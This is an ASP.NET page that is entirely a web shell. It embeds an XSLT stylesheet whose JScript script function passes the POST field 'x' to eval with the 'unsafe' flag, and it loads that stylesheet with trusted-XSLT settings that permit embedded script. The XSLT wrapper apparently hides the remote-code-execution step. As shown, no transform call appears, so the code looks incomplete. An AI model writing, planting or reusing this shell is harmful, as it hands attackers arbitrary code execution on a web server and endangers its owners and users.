<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%
string sheet = @"<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform"" xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:u=""urn:u"">
<msxsl:script language=""JScript"" implements-prefix=""u"">function go() { var r = System.Web.HttpContext.Current.Request; eval(r.Form['x'], 'unsafe'); return ''; }</msxsl:script>
<xsl:template match=""/""><xsl:value-of select=""u:go()""/></xsl:template></xsl:stylesheet>";
var x = new XslCompiledTransform();
var d = new XmlDocument(); d.LoadXml(sheet);
x.Load(d, XsltSettings.TrustedXslt, new XmlUrlResolver());
%>
